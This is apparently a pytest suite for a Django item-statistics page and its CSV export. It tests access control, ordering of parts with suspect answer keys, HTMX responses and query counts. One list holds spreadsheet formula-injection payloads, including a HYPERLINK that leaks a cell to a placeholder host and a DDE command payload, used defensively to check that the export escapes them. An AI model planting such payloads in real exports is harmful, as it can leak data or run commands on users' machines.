"""The item statistics page and its CSV: for authors only, suspect keys first, and no
typed answer can become a spreadsheet formula."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from grading.models import Attempt
from trainer.tests.test_item_stats import answered, crowd

URL = reverse("item-statistics")
HTMX = {"HTTP_HX_REQUEST": "true"}
# Leading tabs and returns need no test here: answers are grouped with their whitespace
# collapsed, so no cell starts with one.
HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]


def _csv_rows(client, query=""):
    response = client.get(f"{URL}?format=csv{query}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_anonymous_users_are_sent_to_log_in(client, decode_question):
    response = client.get(URL)
    assert response.status_code == 302 and reverse("login") in response["Location"]


@pytest.mark.parametrize("role", ["candidate", "interviewer"])
@pytest.mark.parametrize("query", ["", "?format=csv"])
def test_candidates_and_interviewers_are_refused(client, login_as, request, decode_question, role, query):
    login_as(request.getfixturevalue(role))
    assert client.get(URL + query).status_code == 403


def test_authors_see_every_part_with_suspect_keys_first(client, login_as, django_user_model, admin_user,
                                                        decode_question, kv_formula_question):
    for user in crowd(django_user_model, 5):
        answered(user, kv_formula_question, "3*L*h*d*b", part_id="kv")
    login_as(admin_user)
    body = client.get(URL).content.decode()
    order = [row for row in ("test-kv-per-token/kv", "test-decode-floor/floor", "test-decode-floor/why")
             if f'data-part="{row}"' in body]
    assert order == ["test-kv-per-token/kv", "test-decode-floor/floor", "test-decode-floor/why"]
    assert body.index('data-part="test-kv-per-token/kv"') < body.index('data-part="test-decode-floor/floor"')
    assert 'data-part="test-kv-per-token/kv" class="suspect" data-suspect' in body
    assert 'data-suspect-count="1"' in body
    assert "Suspect key: 5 of 5 careful candidates answered" in body
    assert 'id="suspect-rule"' in body  # the rule is stated on the page
    assert f'href="{URL}"' in body  # and the navigation links to it


def test_the_topic_filter_and_htmx_get_only_the_table(client, login_as, admin_user, decode_question,
                                                      kv_formula_question):
    login_as(admin_user)
    response = client.get(f"{URL}?topic=kv-cache", **HTMX)
    body = response.content.decode()
    assert response.status_code == 200 and "<h1>" not in body
    assert 'data-part="test-kv-per-token/kv"' in body and "test-decode-floor" not in body
    assert "HX-Request" in response["Vary"]


def test_the_csv_has_one_row_per_part_with_its_numbers(client, login_as, admin_user, candidate, decode_question):
    answered(candidate, decode_question, "1234 ms", seconds=42)
    login_as(admin_user)
    rows = {row["part"]: row for row in _csv_rows(client)}
    assert set(rows) == {"floor", "why"}
    floor = rows["floor"]
    assert (floor["question"], floor["practice_attempts"], floor["first_try_correct_share"]) == (
        "test-decode-floor", "1", "0.0")
    assert floor["median_time_seconds"] == "42.0" and floor["suspect"] == "no"
    assert floor["top_wrong_answers"].startswith("1234 ms ×1 (")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_formula_typed_as_an_answer_is_text_in_the_csv(client, login_as, admin_user, candidate, decode_question,
                                                         hostile):
    # Stored as graded directly: no numeric reading would keep such text, but a kind's
    # `interpreted` (a chosen option's text, a formula) or the raw answer could.
    Attempt.objects.create(
        user=candidate, question_version=decode_question, part_id="floor", part_kind="numeric", variant_seed=3,
        answer=hostile, status=Attempt.Status.GRADED, correct=False, score=0.0,
        verdict={"valid": True, "correct": False, "score": 0.0, "interpreted": hostile, "mistake": None},
    )
    login_as(admin_user)
    [floor] = [row for row in _csv_rows(client) if row["part"] == "floor"]
    assert floor["top_wrong_answers"] == f"'{hostile} ×1 (no mistake matched)"
    assert floor["title"] == "Decode floor (test question)"  # ordinary cells are left alone


def test_the_page_makes_a_fixed_number_of_queries_however_many_answers(
    client, login_as, django_user_model, admin_user, candidate, decode_question, kv_formula_question
):
    answered(candidate, decode_question, "1234 ms")
    login_as(admin_user)
    with CaptureQueriesContext(connection) as few:
        assert client.get(URL).status_code == 200
    for index, user in enumerate(crowd(django_user_model, 6)):
        answered(user, decode_question, f"{index + 2} ms")
        answered(user, kv_formula_question, "2*L*h*d*b", part_id="kv")
    with CaptureQueriesContext(connection) as many:
        assert client.get(URL).status_code == 200
    assert len(many.captured_queries) == len(few.captured_queries)
    assert len(few.captured_queries) <= 6, [query["sql"] for query in few.captured_queries]
